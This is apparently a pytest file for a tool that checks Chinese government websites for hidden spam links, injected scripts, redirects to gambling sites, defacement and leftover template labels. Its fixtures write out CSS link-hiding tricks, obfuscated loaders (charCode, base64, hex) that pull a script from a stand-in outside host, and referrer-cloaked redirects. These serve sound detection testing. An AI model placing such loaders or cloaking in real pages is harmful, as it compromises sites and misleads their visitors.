"""What the eighteenth blind set showed of the single-page checks, by cause, at public interfaces."""

from __future__ import annotations

from base64 import b64encode
from datetime import date

import pytest
from read_tools import read
from site_facts import WINDOWS, facts

from xuncha.checks.injection.check import observe as observe_injection
from xuncha.checks.labels.check import observe as observe_labels
from xuncha.crawl.brokenpages import says_broken
from xuncha.facts import PageLabels, PageType, Site
from xuncha.fetch.challenges import challenge_in
from xuncha.read.pagefacts import Page
from xuncha.read.signs import telling_signs

HOME = "http://www.shili.gov.cn/"
SITE = Site(HOME, "示例县人民政府", "4101000001")


def page(body: str, head: str = "", title: str = "示例县人民政府") -> Page:
    html = f"<html><head><title>{title}</title>{head}</head><body>{body}</body></html>"
    return read(HOME, html, date(2026, 6, 1))


def hidden(body: str, head: str = "") -> int:
    signs = page(body, head).signs
    return len(signs.hidden_links) if signs else 0


def injected(body: str, head: str = "", title: str = "示例县人民政府") -> set[str]:
    signs = telling_signs([page(body, head, title)])
    seen = observe_injection(facts(site=SITE, signs=signs), WINDOWS)
    return {one.name for one in seen} - {"leaving_notice_unknown"}


def links(*hosts: str) -> str:
    return "".join(f'<a href="http://www.{host}.example/">{host}</a>' for host in hosts)


def script(code: str) -> str:
    return f"<script>{code}</script>"


def codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


def coded(text: str) -> str:
    return b64encode(text.encode()).decode()


FOUR = links("fangzhi", "chaye", "dianli", "muye")
SELLS = '<a href="http://bc.example/">真人百家乐开户</a>'
FAR = "http://js.yuanfang.example/a.js"


@pytest.mark.parametrize("letter", "蜀陇黔滇")
def test_an_icp_number_begins_with_the_letter_of_its_province(letter: str) -> None:
    foot = f'<div class="footer">主办：示例县人民政府 {letter}ICP备17000033号-2</div>'
    assert page(foot).identity.icp == f"{letter}ICP备17000033号-2"


@pytest.mark.parametrize(
    "style",
    [
        "display:none;display:block!important",
        "opacity:0;opacity:1",
        "position:absolute;left:-9999px;left:12px",
        "display:none!important;display:block!important",
        r"position:absolute;left:\2d 9999px",
    ],
)
def test_what_a_style_says_last_counts(style: str) -> None:
    assert hidden(f'<div style="{style}">{FOUR}</div>') == 0


@pytest.mark.parametrize(
    "style",
    [
        "display:none!important;display:block",
        "opacity:1;opacity:0",
        r"d\69splay:none",
        r"display:non\65",
        "visibility:visible;visibility:hidden",
        "opacity:-.5",
        "opacity:0%",
    ],
)
def test_a_style_that_hides_after_all(style: str) -> None:
    assert hidden(f'<div style="{style}">{FOUR}</div>') == 4


def test_drawings_are_seen_where_letters_have_no_size() -> None:
    drawn = "".join(
        f'<a href="http://www.a{n}.example/" style="font-size:0">甲{n}<svg width="16"></svg></a>'
        for n in range(5)
    )
    assert hidden(f"<div>{drawn}</div>") == 0
    sold = '<a href="http://www.bc.example/" style="font-size:0">真人百家乐开户</a>'
    assert hidden(f"<div>{sold}</div>") == 1


def test_pictures_are_seen_whatever_the_colour_of_letters() -> None:
    pictures = "".join(
        f'<td><a href="http://www.a{n}.example/"><img src="/{n}.gif"></a></td>' for n in range(8)
    )
    box = '<div style="overflow:hidden;height:90px;color:#ffffff"><table><tr>{}</tr></table></div>'
    assert hidden(box.format(pictures)) == 0
    assert hidden(f'<div style="color:#fff">{SELLS}{FOUR}</div>') == 5


def test_what_is_for_the_printer_is_told_where_it_sells() -> None:
    head = "<style>@media screen{.dayin-qu{display:none}}</style>"
    assert hidden(f'<div class="dayin-qu">{FOUR}</div>', head) == 0
    assert hidden(f'<div class="dayin-qu">{SELLS}</div>', head) == 1


@pytest.mark.parametrize(
    "calls, code",
    [
        ("onmouseover=\"qie('','mk',1)\"", "function qie(a,b,n){document.getElementById(b+n).style.display='block'}"),
        ("onclick='kai(\"1\")'", "function kai(n){var o=document.getElementById('mk'+n);o.style.display=''}"),
        ("onclick='kai(1)'", "function kai(n){$('#mk'+n).slideToggle()}"),
    ],
)  # fmt: skip
def test_a_name_that_is_put_together_opens_a_box(calls: str, code: str) -> None:
    box = f'<p>{"单位" * 30}</p><i {calls}>网站</i><div id="mk1" style="display:none">{FOUR}</div>'
    assert hidden(box + script(code)) == 0
    # A name that nobody puts together, and a script that only hides.
    assert hidden(box.replace("mk1", "zq7") + script(code)) == 4


def test_a_box_that_a_script_finds_by_its_attribute_is_opened() -> None:
    box = f'<p>{"单位" * 30}</p><div ye="2" hidden>{FOUR}</div>'
    shows = "document.querySelector('[ye=\"'+n+'\"]').hidden=false"
    assert hidden(box + script(shows)) == 0
    assert hidden(box + script("document.querySelector('[ye=\"2\"]').hidden=true")) == 4


@pytest.mark.parametrize("box", ["<dialog>{}</dialog>", "<div popover>{}</div>"])
@pytest.mark.parametrize(
    "opens, found",
    [
        ("", 4),
        (script("d.showModal()"), 0),
        ("<button popovertarget='a'>网站</button>", 0),
        ('<script src="/js/a.js"></script>', 0),
    ],
)
def test_a_box_that_browsers_keep_shut_and_nothing_opens(box: str, opens: str, found: int) -> None:
    assert hidden(f"<p>{'单位' * 30}</p>{box.format(FOUR)}{opens}") == found


@pytest.mark.parametrize(
    "rule, opens, found",
    [
        ("[data-zq]", "", 4),
        ("div[data-zq]", "", 4),
        ('[data-zq="1"]', "", 4),
        # A script that was not read, or one that was, takes it away.
        ("[data-zq]", '<script src="/js/a.js"></script>', 0),
        ("[data-zq]", script("document.querySelector('div').removeAttribute('data-zq')"), 0),
        ("[data-zq]:not(:hover)", "", 0),
        ("[v-cloak]", "", 0),
    ],
)
def test_a_rule_that_asks_for_an_attribute(rule: str, opens: str, found: int) -> None:
    head = f"<style>{rule}{{display:none}}</style>"
    mark = "v-cloak" if "cloak" in rule else 'data-zq="1"'
    box = f"<p>{'单位' * 30}</p><div {mark}>{{}}</div>{opens}"
    assert hidden(box.format(FOUR), head) == found
    assert hidden(box.format(SELLS), head) == (1 if "hover" not in rule else 0)


def test_rows_that_are_folded_away_are_no_panels() -> None:
    rows = f'<tr style="visibility:collapse"><td>{FOUR}</td></tr><tr><td>{"粮情" * 30}</td></tr>'
    assert hidden(f"<table>{rows}</table>") == 4


def test_a_sheet_whose_tag_a_script_writes_in_pieces() -> None:
    code = (
        "function f(){var h=document.getElementsByTagName('he'+'ad')[0],"
        "r='#k9{position:fixed;top:-99999px}',s=document.createElement('st'+'yle');"
        "if(s.styleSheet){s.styleSheet.cssText=r}else{s.appendChild(document.createTextNode(r))}"
        "h.appendChild(s)}f();"
    )
    assert hidden(f'<div id="k9">{SELLS}</div>' + script(code)) == 1
    # A sheet for a hint that the same script takes away again.
    assert hidden(f'<div id="k8">{FOUR}</div>' + script(code)) == 0


ELEMENTS = {
    "by the codes of its letters": f"var e=document.createElement(String.fromCharCode({codes('script')}));e.src=String.fromCharCode({codes(FAR)});document.head.appendChild(e);",
    "by words in base64": f"var w=['{coded('script')}','{coded(FAR)}'];var s=document.createElement(atob(w[0]));s.src=atob(w[1]);document.head.appendChild(s);",
    "by its name in brackets": "var s=document.createElement('script');s['src']='http://js.yuanfang.example/a.js';document.head.appendChild(s);",
    "by the letters in hexadecimal": 's=document.createElement("script");s["\\x73\\x72\\x63"]="'
    + "".join(f"\\x{ord(c):02x}" for c in FAR)
    + '";document.head.appendChild(s);',
    "by a list that is written": "var t=[\"<script src='http://js.yuanfang.example/a.js'><\\/script>\"];document.write(t);",
    "by a decoder of its own": f"function jie(e){{var m='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';return e}}(function(u,d,c){{var s=d.createElement('scri'+c);s.src=jie(u);d.body.appendChild(s)}})('{coded(FAR)}',document,'pt');",
}


@pytest.mark.parametrize("way", ELEMENTS)
def test_an_element_that_a_script_makes(way: str) -> None:
    assert injected(script(ELEMENTS[way])) & {"foreign_script", "script_trick"}
    own = ELEMENTS[way].replace(FAR, "/js/a.js").replace(coded(FAR), coded("/js/a.js"))
    own = own.replace(codes(FAR), codes("/js/a.js"))
    own = own.replace("".join(f"\\x{ord(c):02x}" for c in FAR), "/js/a.js")
    assert injected(script(own)) == set()


ENGINE = "var r=/\\.(baidu|sogou|so)\\./;if(r.test(document.referrer)){%s}"


@pytest.mark.parametrize(
    "leads, is_trick",
    [
        ("location.href='http://bc.example/1.html'", True),
        ("location.href='//bc.example/1.html'", True),
        ("location.replace('http://203.0.113.7:81/')", True),
        ("location.href=u", True),
        ("location.href='zt/qs.shtml'", False),
        ("window.location='/zt/'", False),
        ("location.href='http://www.shili.gov.cn/zt/'", False),
        ("location.assign('http://zt.shili.gov.cn/')", False),
    ],
)
def test_who_searched_may_be_led_to_a_page_of_the_site_itself(leads: str, is_trick: bool) -> None:
    assert injected(script(ENGINE % leads)) == ({"script_trick"} if is_trick else set())


@pytest.mark.parametrize(
    "head, is_led",
    [
        ('<meta http-equiv="refresh" content="0;url=http://bc.example/">', True),
        ("<META HTTP-EQUIV=REFRESH CONTENT=\"3; URL='https://bc.example/a'\">", True),
        ('<meta http-equiv="refresh" content="0;url=/index.html">', False),
        ('<meta http-equiv="refresh" content="600">', False),
        ('<meta http-equiv="refresh" content="0;url=http://zw.shili.gov.cn/">', False),
        # The county's site has moved.
        ('<meta http-equiv="refresh" content="0;url=http://www.other.gov.cn/">', False),
    ],
)
def test_a_refresh_to_a_stranger(head: str, is_led: bool) -> None:
    text = "<p>" + "县政府召开常务会议。" * 40 + "</p>"
    assert injected(text, head) == ({"script_trick"} if is_led else set())


@pytest.mark.parametrize(
    "code, is_led",
    [
        ("if(document.cookie.indexOf('k=')==-1){document.cookie='k=1';window.location='http://bc.example/'}", True),
        ("setTimeout(function(){location.replace('http://bc.example/')},900)", True),
        ("window.addEventListener('load',function(){location.href='http://bc.example/'})", True),
        ("function go(){location.href='http://bc.example/'}", False),
        ("if(confirm('即将离开本网站')){location.href='http://bc.example/'}", False),
        ("$('#a').click(function(){location.href='http://bc.example/'})", False),
        ("b.onclick=()=>{location.href='http://bc.example/'}", False),
        ("setTimeout(function(){location.replace('/index.html')},900)", False),
    ],
)  # fmt: skip
def test_a_script_that_leads_every_visitor_to_a_stranger(code: str, is_led: bool) -> None:
    text = "<p>" + "县政府召开常务会议。" * 40 + "</p>"
    assert injected(text + script(code)) == ({"script_trick"} if is_led else set())
    # An address without a page sends its visitors on, and so does a site that has moved.
    assert injected(script(code)) == set()
    assert injected(text + "<p>本网站已改版，请访问新网址。</p>" + script(code)) == set()


@pytest.mark.parametrize(
    "title, is_sold",
    [
        ("SITUS SLOT GACOR HARI INI", True),
        ("Slot777 Gacor Maxwin - Daftar Togel Online", True),
        ("Online Casino Bonus | Best Poker Sites", True),
        ("Casino Royale：县图书馆外文读书会", False),
        ("Time slot booking for visitors", False),
        ("Poker-faced: a lecture on portraits", False),
    ],
)
def test_the_trade_in_english(title: str, is_sold: bool) -> None:
    assert ("page_defaced" in injected("<p>县政府</p>", title=title)) is is_sold


@pytest.mark.parametrize(
    "title, words, is_broken",
    [
        ("undefined", "首页 政务公开 undefined 发布时间：undefined 来源：undefined undefined", True),
        ("错误", "首页 >> 错误 ■ 未知错误，请联系管理员。", True),
        ("编程课堂", "undefined 和 undefined 有什么不同？undefined" + "老师从没有定义的变量讲起。" * 8, False),
        ("undefined", "县政府召开常务会议。" * 9 + "浏览次数：undefined", False),
        ("关于未知错误的说明", "系统提示未知错误的，请携带证件到窗口办理。", False),
    ],
)  # fmt: skip
def test_a_page_of_which_a_script_filled_in_nothing(
    title: str, words: str, is_broken: bool
) -> None:
    assert says_broken(title, words) is is_broken


@pytest.mark.parametrize(
    "words, is_refused",
    [
        ("您的访问已被锁定，请等待 30 秒。", True),
        ("您的访问已被临时封禁", True),
        ("您的提交带有不合法参数,谢谢合作!<br>操作IP: 203.0.113.9", True),
        ("您的访问已被登记，请凭证件入馆。", False),
        ("您提交的票据带有不合法内容的，谢谢合作！", False),
    ],
)
def test_a_refusal_in_other_words(words: str, is_refused: bool) -> None:
    assert bool(challenge_in(200, (), f"<html><body>{words}</body></html>".encode())) is is_refused


@pytest.mark.parametrize(
    "value, is_wrong",
    [
        ("<CMSPRO_CHANNEL CODE= FIELD=channelName></CMSPRO_CHANNEL>", True),
        ("{{article.title}}", True),
        ("${title}", True),
        ("{pboot:sitetitle}", True),
        ("关于印发《办法》<br>的通知", False),
        ("a<b 的读法", False),
    ],
)
def test_a_label_that_a_template_left(value: str, is_wrong: bool) -> None:
    labels = {"SiteName": ("示例",), "SiteDomain": ("www.shili.gov.cn",)}
    labels |= {"SiteIDCode": ("4101000001",), "ColumnName": ("要闻",), "ColumnType": ("动态",)}
    labels |= {"PubDate": ("2026-05-01 09:00",), "ContentSource": ("县",), "ArticleTitle": (value,)}
    on_it = PageLabels(HOME + "a.html", PageType.ARTICLE, labels, "<urn:a>", "")
    seen = observe_labels(facts(site=SITE, labels=(on_it,)), WINDOWS)
    assert [one.name for one in seen] == (["label_wrong"] if is_wrong else [])


def test_the_weather_of_a_portal_is_no_stranger() -> None:
    frame = '<iframe src="http://tianqi.2345.com/plugin/widget/index.htm?s=3"></iframe>'
    assert injected(frame) == set()
